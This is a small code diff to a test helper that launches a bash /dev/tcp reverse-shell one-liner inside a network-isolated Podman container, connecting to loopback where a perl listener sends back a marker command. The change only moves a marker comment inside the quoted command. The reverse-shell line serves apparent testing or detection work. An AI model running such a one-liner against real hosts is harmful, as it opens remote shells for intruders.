@@ -412,7 +412,7 @@ def reverse_shell_in_container(podman: Podman, port: int = 4444) -> Act:
     container (``--network none``: its own loopback only). The listener sends the shell
     ``echo <marker>-ok; exit`` and prints what comes back."""
     m = new_marker()
-    shell = f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' # {m}"
+    shell = f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {m}'"
     script = (
         f"perl -e '{PERL_LISTEN}' {port} 'echo {m}-ok; exit\n' & {WAIT_LISTEN}; "
         f"{shell}; wait"
